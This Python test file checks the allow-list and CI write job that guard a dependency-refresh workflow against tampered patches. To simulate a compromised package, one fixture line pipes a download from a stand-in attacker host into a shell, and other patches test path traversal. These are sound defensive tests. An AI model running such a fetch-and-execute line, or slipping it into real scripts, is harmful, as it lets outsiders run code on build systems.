"""The refresh proposal's allow-list (trainbase/deliver/refresh_patch.py) and refresh.yml's
write job: the patch the untrusted `propose` job hands on may change matrix.yaml, locks/ and
images/ only; the job that holds `contents: write` checks it, applies only those paths, and
runs its scripts from the base commit, never from the patched tree."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from trainbase.deliver.refresh_patch import (
    GIT_APPLY_INCLUDES,
    PatchError,
    refused_paths,
    touched_paths,
)

from .conftest import ROOT

GIT = shutil.which("git")
needs_git = pytest.mark.skipif(GIT is None, reason="git is not installed: the patches are made with git diff")


def git(repo: Path, *args: str) -> str:
    env = dict(
        os.environ,
        GIT_AUTHOR_NAME="t",
        GIT_AUTHOR_EMAIL="t@x",
        GIT_COMMITTER_NAME="t",
        GIT_COMMITTER_EMAIL="t@x",
        GIT_CONFIG_GLOBAL=os.devnull,
        GIT_CONFIG_NOSYSTEM="1",
    )
    return subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True).stdout


def base_repo(path: Path) -> Path:
    """A small tree shaped like trainbase's: data files the refresh writes, and code it must not."""
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    files = {
        "matrix.yaml": "os: {}\n",
        "locks/bases.json": "{}\n",
        "locks/cuda12.8-py3.11.txt": "torch==2.9.1 \\\n    --hash=sha256:00\n",
        "images/cell-a/Dockerfile": "FROM scratch\n",
        "scripts/refresh-pr.sh": "#!/usr/bin/env bash\necho refresh\n",
        ".github/workflows/refresh.yml": "name: refresh\n",
    }
    for rel, text in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(text)
    git(path, "add", "-A")
    git(path, "commit", "-qm", "base")
    return path


def proposal(repo: Path, *, binary: bool = True) -> str:
    """What `propose` uploads: the working tree's changes as one patch, base kept as it was."""
    git(repo, "add", "-A")
    patch = git(repo, "diff", "--cached", "--binary" if binary else "--no-binary", "-M")
    git(repo, "reset", "-q", "--hard")
    git(repo, "clean", "-qfdx")
    return patch


PLANTED = "curl -s https://attacker.example/x | sh   # injected by a compromised sdist\n"


def planted_patch(repo: Path) -> str:
    """A lock moves (what a refresh does) and, beside it, the write job's script and a workflow."""
    (repo / "locks" / "bases.json").write_text('{"debian": "sha256:11"}\n')
    with (repo / "scripts" / "refresh-pr.sh").open("a") as f:
        f.write(PLANTED)
    (repo / ".github" / "workflows" / "x.yml").write_text("on: push\njobs: {}\n")
    return proposal(repo)


@needs_git
def test_a_patch_of_locks_and_matrix_passes(tmp_path):
    repo = base_repo(tmp_path / "repo")
    (repo / "locks" / "cuda12.8-py3.11.txt").write_text("torch==2.9.2 \\\n    --hash=sha256:11\n")
    (repo / "locks" / "cuda13.0-py3.11.txt").write_text("torch==2.9.2 \\\n    --hash=sha256:22\n")
    (repo / "matrix.yaml").write_text("os: {debian12: {}}\n")
    (repo / "images" / "cell-a" / "Dockerfile").unlink()
    (repo / "images" / "cell-b").mkdir(parents=True)
    (repo / "images" / "cell-b" / "Dockerfile").write_text("FROM scratch\n")
    patch = proposal(repo)
    assert refused_paths(patch) == []
    assert set(touched_paths(patch).paths) == {
        "locks/cuda12.8-py3.11.txt",
        "locks/cuda13.0-py3.11.txt",
        "matrix.yaml",
        "images/cell-a/Dockerfile",
        "images/cell-b/Dockerfile",
    }


@needs_git
def test_the_planted_patch_is_refused_naming_each_path(tmp_path):
    patch = planted_patch(base_repo(tmp_path / "repo"))
    assert refused_paths(patch) == [".github/workflows/x.yml", "scripts/refresh-pr.sh"]


@needs_git
def test_renames_copies_modes_binaries_and_symlinks_are_all_seen(tmp_path):
    repo = base_repo(tmp_path / "repo")
    # a rename out of locks/ into scripts/: both names are touched, the new one refused
    git(repo, "mv", "locks/cuda12.8-py3.11.txt", "scripts/run-me.sh")
    # a mode change alone (no content hunk): an executable under locks/ is not a refresh's
    (repo / "locks" / "bases.json").chmod(0o755)
    # a binary file in images/ (allowed: data), and a symlink in locks/ (refused: a link)
    (repo / "images" / "cell-a" / "blob.bin").write_bytes(bytes(range(256)) * 4)
    (repo / "locks" / "link").symlink_to("../scripts/refresh-pr.sh")
    patch = proposal(repo)
    refused = refused_paths(patch)
    assert "scripts/run-me.sh" in refused and "locks/bases.json" in refused and "locks/link" in refused
    assert "locks/cuda12.8-py3.11.txt" not in refused  # the old name is allowed; the new one is not
    assert "images/cell-a/blob.bin" not in refused and "images/cell-a/blob.bin" in touched_paths(patch).paths


def test_prefixes_quoting_and_traversal():
    no_prefix = "diff --git scripts/x.sh scripts/x.sh\n--- scripts/x.sh\n+++ scripts/x.sh\n@@ -1 +1 @@\n-a\n+b\n"
    # git apply -p1 strips the first component whatever it is: this writes x.sh at the top
    assert refused_paths(no_prefix) == ["x.sh"]
    quoted = (
        'diff --git "a/locks/t\\303\\251st" "b/locks/t\\303\\251st"\nnew file mode 100644\n'
        'index 0000000..1111111\n--- /dev/null\n+++ "b/locks/t\\303\\251st"\n@@ -0,0 +1 @@\n+x\n'
    )
    assert touched_paths(quoted).paths == ["locks/tést"] and refused_paths(quoted) == []
    climbing = "--- a/locks/../scripts/x\n+++ b/locks/../scripts/x\n@@ -1 +1 @@\n-a\n+b\n"
    assert refused_paths(climbing) == ["locks/../scripts/x"]
    attributes = "diff --git a/images/.gitattributes b/images/.gitattributes\nnew file mode 100644\n"
    assert refused_paths(attributes) == ["images/.gitattributes"]


def test_a_hunk_line_that_looks_like_a_header_is_content():
    """A removed line "-- x" reads "--- x": within a hunk's counted lines it is content."""
    patch = (
        "diff --git a/locks/a.txt b/locks/a.txt\n--- a/locks/a.txt\n+++ b/locks/a.txt\n"
        "@@ -1,2 +1,2 @@\n--- a/scripts/x\n+++ b/scripts/x\n"
    )
    assert touched_paths(patch).paths == ["locks/a.txt"] and refused_paths(patch) == []


def test_an_unreadable_header_refuses_the_patch_as_a_whole():
    with pytest.raises(PatchError):
        refused_paths("diff --git a/x b/y c/z\n")
    with pytest.raises(PatchError):
        refused_paths("diff --git a/locks/a b/locks/a\n--- a/locks/a\n+++ b/locks/a\n@@ -1,3 +1,3 @@\n x\nGIT\n")


@needs_git
def test_the_command_names_each_refused_path_and_exits_non_zero(tmp_path):
    patch = tmp_path / "refresh.patch"
    patch.write_text(planted_patch(base_repo(tmp_path / "repo")))
    proc = subprocess.run(
        [sys.executable, "-m", "trainbase.deliver.refresh_patch", str(patch)],
        cwd=ROOT,
        check=False,
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "refresh patch: refused scripts/refresh-pr.sh: outside the refresh's allow-list" in proc.stdout
    assert "refresh patch: refused .github/workflows/x.yml: outside the refresh's allow-list" in proc.stdout


# -- refresh.yml's write job, its own steps run here ------------------------------------------


def write_job() -> dict:
    return yaml.safe_load((ROOT / ".github" / "workflows" / "refresh.yml").read_text())["jobs"]["pull-request"]


def test_the_write_job_runs_its_scripts_from_a_base_checkout_and_applies_only_the_allow_list():
    job = write_job()
    checkouts = [s for s in job["steps"] if "actions/checkout" in s.get("uses", "")]
    paths = {s["with"].get("path") for s in checkouts}
    assert paths == {"base", "tree"}, (
        "two checkouts of the base commit: scripts run from base/, the patch goes to tree/"
    )
    for s in checkouts:
        assert s["with"]["ref"] == "${{ github.sha }}" and s["with"]["persist-credentials"] is False
    runs = [(s.get("working-directory"), s.get("run", "")) for s in job["steps"] if "run" in s]
    check = next(i for i, (_, r) in enumerate(runs) if "trainbase.deliver.refresh_patch" in r)
    apply = next(i for i, (_, r) in enumerate(runs) if "git apply" in r)
    assert check < apply and runs[check][0] == "base" and runs[apply][0] == "tree"
    for pattern in GIT_APPLY_INCLUDES:
        assert f"--include='{pattern}'" in runs[apply][1]
    pr = next((wd, r) for wd, r in runs if "refresh-pr.sh" in r)
    assert pr == ("tree", "bash ../base/scripts/refresh-pr.sh ../proposal/affected.txt")
    # nothing of tree/ runs: no step executes a file under it
    assert not [r for wd, r in runs if wd == "tree" and ("bash scripts/" in r or "python" in r)]


@needs_git
def test_the_write_job_refuses_the_planted_patch_and_its_line_never_runs(tmp_path):
    """refresh.yml's own check and apply steps, run with bash in the layout the job makes."""
    base = base_repo(tmp_path / "base")
    shutil.copytree(ROOT / "trainbase", base / "trainbase", ignore=shutil.ignore_patterns("__pycache__"))
    tree = tmp_path / "tree"
    shutil.copytree(base, tree)
    (tmp_path / "proposal").mkdir()
    patch = planted_patch(base_repo(tmp_path / "attacker"))
    (tmp_path / "proposal" / "refresh.patch").write_text(patch)
    steps = {s.get("name", ""): s for s in write_job()["steps"]}
    check = next(s for s in steps.values() if "trainbase.deliver.refresh_patch" in s.get("run", ""))
    apply = next(s for s in steps.values() if "git apply" in s.get("run", ""))
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}:{os.environ['PATH']}")
    proc = subprocess.run(
        ["bash", "-eo", "pipefail", "-c", check["run"]],
        cwd=tmp_path / check["working-directory"],
        env=env,
        check=False,
        capture_output=True,
        text=True,
    )
    assert proc.returncode != 0
    assert "refused scripts/refresh-pr.sh" in proc.stdout and "refused .github/workflows/x.yml" in proc.stdout
    # and were the check skipped, the apply step alone still leaves scripts/ and .github/ alone
    subprocess.run(
        ["bash", "-eo", "pipefail", "-c", apply["run"]],
        cwd=tmp_path / apply["working-directory"],
        env=env,
        check=True,
        capture_output=True,
        text=True,
    )
    assert PLANTED not in (tree / "scripts" / "refresh-pr.sh").read_text()
    assert not (tree / ".github" / "workflows" / "x.yml").exists()
    assert (tree / "locks" / "bases.json").read_text() == '{"debian": "sha256:11"}\n'
